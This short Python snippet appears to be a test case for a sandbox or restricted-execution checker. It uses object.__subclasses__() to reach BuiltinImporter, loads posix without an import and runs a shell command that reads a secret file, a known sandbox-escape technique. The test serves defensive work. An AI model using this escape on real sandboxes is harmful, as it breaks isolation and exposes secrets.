# The importer of built-in modules is one of object's subclasses; it loads posix without any import statement.
# effect: run
importer = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
importer.load_module("posix").system("cat @SECRET@")
